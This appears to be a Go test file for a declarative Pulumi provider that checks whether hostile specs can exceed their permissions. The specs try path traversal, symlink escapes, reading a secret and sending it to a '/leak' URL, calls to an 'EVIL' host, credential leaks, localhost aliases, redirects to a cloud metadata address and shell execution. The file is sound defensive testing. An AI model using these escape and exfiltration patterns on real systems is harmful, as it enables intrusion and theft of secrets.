package grants

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pulumi/pulumi/sdk/v3/go/property"

	"github.com/declprov/declprov/engine/pulumi/client"
)

// attack is a spec that tries to do more than its permissions say. What it reaches for
// hides in defaults of inputs, so that it is found when it runs and not by vet alone.
type attack struct {
	// narrow are the permissions that a careful user has read, wide those under which the
	// same spec does it: else the test could not tell.
	narrow, wide string
	// body is the spec, in which DIR is the program's folder, OUT one beside it, HOME a
	// server that may be asked, EVIL one that may not, PORT the port of EVIL.
	body string
	// door is what is called: create, import, list, method, or a function; "" is create.
	// "asset URL" and "archive FILE" are creates with what the user hands over.
	door string
	// sign is what EVIL must have seen, "" any request at all.
	sign string
}

// thing is a resource whose create is the attack.
func thing(inputs, create string) string {
	return `resources: It: {
	inputs: {name: string, ` + inputs + `}
	id: "${inputs.name}"
	create: ` + create + `
}`
}

// told is a function whose steps end in telling HOME what they found.
func told(inputs, found, steps string) string {
	return `functions: go: {
	inputs: {` + inputs + `}
	outputs: {}
	steps: [` + steps + `, {http: {url: "HOME/leak", query: found: "` + found + `"}}]
	return: {}
}`
}

const own = `write: ["allowed/**"], hosts: ["HOME"]`

func attacks() map[string]attack {
	path := func(p string) string { return fmt.Sprintf("p: *%q | string", p) }
	return map[string]attack{
		"a file beside the folder": {
			own, own + `, write: ["OUT/**"]`, thing(path("allowed/../../out/made"), `file: write: {path: "${inputs.p}", content: "x"}`), "", "",
		},
		"an absolute path": {
			own, own + `, write: ["OUT/**"]`, thing(path("OUT/made"), `file: write: {path: "${inputs.p}", content: "x"}`), "", "",
		},
		"a link that was there": {
			own, own + `, write: ["OUT/**"]`, thing(path("allowed/link/made"), `file: write: {path: "${inputs.p}", content: "x"}`), "", "",
		},
		"a link that it makes": {
			own, own + `, write: ["OUT/**"]`, thing(path("../../out"), `steps: [
				{file: symlink: {path: "allowed/mine", target: "${inputs.p}"}},
				{file: write: {path: "allowed/mine/made", content: "x"}},
			]`), "", "",
		},
		"a folder beside the folder": {
			own, own + `, write: ["OUT/**"]`, thing(path("OUT/made"), `file: mkdir: path: "${inputs.p}"`), "", "",
		},
		"a copy of a secret": {
			own, own + `, read: ["OUT/**"]`, thing(path("OUT/secret"), `steps: [
				{file: copy: {from: "${inputs.p}", path: "allowed/copy"}},
				{as: "look", file: read: path: "allowed/copy"},
				{http: {url: "HOME/leak", query: found: "${steps.look.content}", effect: "none"}},
			]`), "", "",
		},
		"a secret by a function": {
			own, own + `, read: ["OUT/**"]`, told(path("OUT/secret"), "${steps.look.content}", `{as: "look", file: read: path: "${inputs.p}"}`), "go", "",
		},
		"names by a function": {
			own, own + `, read: ["OUT/**"]`, told(path("OUT"), "${join(map(steps.look.items, .path), \\\" \\\")}", `{as: "look", file: list: path: "${inputs.p}"}`), "go", "",
		},
		"a secret by the id of an import": {
			own, own + `, read: ["OUT/**"]`, `resources: It: {
	inputs: {name: string @replace(), text?: string}
	id: "${inputs.name}"
	import: "${inputs.name}"
	create: file: write: {path: "allowed/${inputs.name}", content: "x"}
	read: {
		steps: [
			{as: "look", file: read: path: "OUT/secret${id == \"it\" ? \"\" : id}"},
			{http: {url: "HOME/leak", query: found: "${steps.look.content}"}},
		]
		return: {name: "${id}", text: "${steps.look.content}"}
	}
}`, "import", "",
		},
		"another server": {
			own, own + `, hosts: ["EVIL"]`, thing(path("EVIL/x"), `http: {url: "${inputs.p}", effect: "write"}`), "", "",
		},
		"a server that a server names": {
			own, own + `, hosts: ["EVIL"]`, thing(path(""), `steps: [{as: "where", http: url: "HOME/where"}, {http: {url: "${steps.where.body.url}", effect: "write"}}]`), "", "",
		},
		"a login elsewhere": {
			own, own + `, hosts: ["EVIL"]`, `config: at: *"EVIL" | string
` + thing(path(""), `http: {baseURL: "HOME", path: "/x", effect: "write", auth: login: {http: {url: "${config.at}/login", json: {}}, token: "${body.none}"}}`), "", "",
		},
		"tokens elsewhere": {
			own, own + `, hosts: ["EVIL"]`, `config: at: *"EVIL" | string
` + thing(path(""), `http: {baseURL: "HOME", path: "/x", effect: "write", auth: oauth2: {tokenURL: "${config.at}/token", clientID: "c", clientSecret: "s"}}`), "", "",
		},
		"credentials elsewhere": {
			own + `, hosts: ["EVIL"]`, own + `, hosts: ["EVIL"], // auth: origins`,
			`http: {baseURL: "HOME", auth: {bearer: "hunter2", ORIGINS}}
` + thing(path("EVIL/x"), `http: {url: "${inputs.p}", effect: "write", ASKED}`), "", "hunter2",
		},
		"a proxy": {
			own, own + `, hosts: ["EVIL"]`, `config: at: *"EVIL" | string
` + thing(path(""), `http: {url: "HOME/x", effect: "write", proxy: "${config.at}"}`), "", "",
		},
		"this machine by a wildcard": {
			`hosts: ["http://*:*"]`, `hosts: ["http://*:*", "http://localhost:PORT"]`,
			thing(path("http://localhost:PORT/x"), `http: {url: "${inputs.p}", effect: "write"}`), "", "",
		},
		"this machine as another address": {
			`hosts: ["http://*:*"]`, `hosts: ["http://*:*", "http://[::ffff:127.0.0.1]:PORT", "http://127.0.0.1:PORT"]`,
			thing(path("http://[::ffff:127.0.0.1]:PORT/x"), `http: {url: "${inputs.p}", effect: "write"}`), "", "",
		},
		"another port": {
			`hosts: ["HOME"]`, `hosts: ["http://127.0.0.1:*"]`, thing(path("EVIL/x"), `http: {url: "${inputs.p}", effect: "write"}`), "", "",
		},
		"a machine by SSH": {
			own, own + `, hosts: ["ssh://127.0.0.1:*"]`, thing("host: *\"127.0.0.1\" | string, port: *PORT | int",
				`exec: {command: ["true"], ssh: {host: "${inputs.host}", port: "${inputs.port}", user: "me", password: "x", hostKey: "SHA256:`+strings.Repeat("A", 43)+`"}}`), "", "",
		},
		"another program": {
			`run: ["true"], write: ["allowed/**"]`, `run: ["true", "sh"], write: ["allowed/**"]`,
			thing(`program: *"sh" | string`, `exec: {command: ["${inputs.program}", "-c", "echo canary >allowed/found"], sandbox: "off"}`), "", "",
		},
		"another program by its path": {
			`run: ["true"], write: ["allowed/**"]`, `run: ["true", "/bin/sh"], write: ["allowed/**"]`,
			thing(`program: *"/bin/sh" | string`, `exec: {command: ["${inputs.program}", "-c", "echo canary >allowed/found"], sandbox: "off"}`), "", "",
		},
		"a variable": {
			`run: ["/bin/sh"], write: ["allowed/**"]`, `run: ["/bin/sh"], write: ["allowed/**"], env: ["CANARY"]`,
			thing(path(""), `exec: {shell: "echo $CANARY >allowed/found", sandbox: "off"}`), "", "",
		},
	}
}

// TestHostileSpecs: no spec does more than its permissions say, as seen from outside; and
// each does it where they say so.
func TestHostileSpecs(t *testing.T) {
	t.Parallel()
	playAll(t, attacks())
}

// playAll plays each attack under narrow permissions and under wide ones.
func playAll(t *testing.T, attacks map[string]attack) {
	t.Helper()
	for name, a := range attacks {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, granted := range []bool{false, true} {
				s := newScene(t, a, granted)
				said := s.play()
				if did := s.did(); did != granted {
					t.Errorf("granted: %v, and it did: %v: %s\nEVIL saw %v, HOME saw %v", granted, did, said, s.evil.asked(), s.home.asked())
				}
			}
		})
	}
}

// scene is an attack about to be played.
type scene struct {
	*testing.T
	attack     attack
	spec       string
	dir, out   string
	home, evil *site
	listed     string
}

func newScene(t *testing.T, a attack, granted bool) *scene {
	t.Helper()
	s := &scene{T: t, attack: a}
	s.evil = newSite(t, func(_ *site, w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/here":
			http.Redirect(w, r, s.home.URL+"/leak?canary", http.StatusFound)
		case "/metadata":
			http.Redirect(w, r, "http://169.254.169.254/latest", http.StatusFound)
		default:
			fmt.Fprint(w, "{}")
		}
	})
	s.home = newSite(t, func(_ *site, w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/moved" {
			http.Redirect(w, r, "http://0.0.0.0:"+portOf(s.home)+"/asset", http.StatusFound)
			return
		}
		fmt.Fprintf(w, `{"url": %q}`, s.evil.URL+"/named")
	})
	top := t.TempDir()
	s.dir, s.out = filepath.Join(top, "program"), filepath.Join(top, "out")
	for _, err := range []error{
		os.MkdirAll(filepath.Join(s.dir, "allowed"), 0o755), os.MkdirAll(s.out, 0o755),
		os.WriteFile(filepath.Join(s.out, "secret"), []byte("canary"), 0o600),
		os.Symlink(s.out, filepath.Join(s.dir, "allowed", "link")),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	permissions, origins, asked := a.narrow, "", ""
	if granted {
		permissions, origins, asked = a.wide, `origins: ["EVIL"]`, `auth: "default"`
	}
	s.spec = strings.NewReplacer("ORIGINS", origins, "ASKED", asked).Replace("permissions: " + merged(permissions) + "\n" + a.body + "\n")
	s.spec, s.attack.door = s.named(s.spec), s.named(a.door)
	return s
}

// named puts the scene's own names into a text.
func (s *scene) named(text string) string {
	return strings.NewReplacer(
		"OUT", s.out, "DIR", s.dir, "HOMEPORT", portOf(s.home), "HOMEHOST", strings.TrimPrefix(s.home.URL, "http://"), "HOME", s.home.URL,
		"EVILHOST", strings.TrimPrefix(s.evil.URL, "http://"), "EVIL", s.evil.URL, "PORT", portOf(s.evil),
	).Replace(text)
}

func portOf(s *site) string { return s.URL[strings.LastIndexByte(s.URL, ':')+1:] }

// merged is a permissions block of which keys may be given twice: CUE would unify lists.
func merged(text string) string {
	text, _, _ = strings.Cut(text, ", //")
	lists := map[string]string{}
	for _, part := range strings.Split(text, "], ") {
		key, list, _ := strings.Cut(part, ": [")
		list = strings.TrimSuffix(list, "]")
		if lists[key] != "" {
			list = lists[key] + ", " + list
		}
		lists[key] = list
	}
	out := "{"
	for key, list := range lists {
		out += key + ": [" + list + "], "
	}
	return out + "}"
}

// play calls the door, and returns what was said. What vet refuses is not played.
func (s *scene) play() string {
	s.Helper()
	if said, passes := vet(s.T, s.spec); !passes {
		if !strings.Contains(said, "not-permitted") {
			s.Errorf("vet finds something else: %s\n%s", said, s.spec)
		}
		return said
	}
	d := serve(s.T, s.spec, s.dir, nil, "CANARY=canary", "HTTP_PROXY="+s.evil.URL, "http_proxy="+s.evil.URL)
	door, handed, _ := strings.Cut(s.attack.door, " ")
	it := it()
	switch door {
	case "go", "openPass":
		said := d.invoke(door, nil)
		d.Interrupt() // which closes what was opened
		if !d.Ends(time.Minute) {
			s.Error("the provider does not end")
		}
		return said
	case "import":
		_, err := d.Read(s.Context(), it, client.State{ID: "it"}, client.Operation{})
		return fmt.Sprint(err)
	case "list":
		listing, err := d.List(s.Context(), it.Type, property.Map{}, 0, 0, "")
		s.listed = fmt.Sprint(listing.Results)
		return fmt.Sprint(err)
	}
	made, said := d.made(it, s.handed(door, handed))
	if door == "method" {
		said += d.method(it, made)
	}
	return said
}

// did reports whether the attack had its effect, seen from outside.
func (s *scene) did() bool {
	s.Helper()
	found, _ := os.ReadFile(filepath.Join(s.dir, "allowed", "found"))
	_, err := os.Lstat(filepath.Join(s.out, "made"))
	_, gone := os.Lstat(filepath.Join(s.out, "secret"))
	leaked := strings.Join(s.home.asked(), "\n")
	return err == nil || gone != nil || strings.Contains(string(found), "canary") || strings.Contains(leaked, "canary") || strings.Contains(leaked+s.listed, "secret") ||
		s.evil.connected.Load() > 0 && strings.Contains(strings.Join(s.evil.asked(), "\n"), s.attack.sign)
}

// TestHostileComponents: a child of a package that runs commands, and a plugin from
// elsewhere, are refused before anything is downloaded or registered.
func TestHostileComponents(t *testing.T) {
	t.Parallel()
	const shell = `components: It: children: run: {type: "command:local:Command", inputs: create: "id", OPTIONS}`
	for name, tc := range map[string]struct{ narrow, wide, options string }{
		"a package":       {`{}`, `packages: ["command"]`, ``},
		"another version": {`packages: ["command@1.0.0"]`, `packages: ["command@1.0.1"]`, `options: version: "1.0.1"`},
		"a download": {
			`packages: ["command"]`, `{packages: ["command"], hosts: ["https://evil.test"]}`, `options: pluginDownloadURL: "https://evil.test/plugins"`,
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, permissions := range []string{tc.narrow, tc.wide} {
				spec := "permissions: " + braced(permissions) + "\n" + strings.Replace(shell, "OPTIONS", tc.options, 1)
				if said, passes := vet(t, spec); passes != (permissions == tc.wide) || !passes && !strings.Contains(said, "not-permitted") {
					t.Errorf("%s: passes: %v\n%s", permissions, passes, said)
				}
			}
		})
	}
}
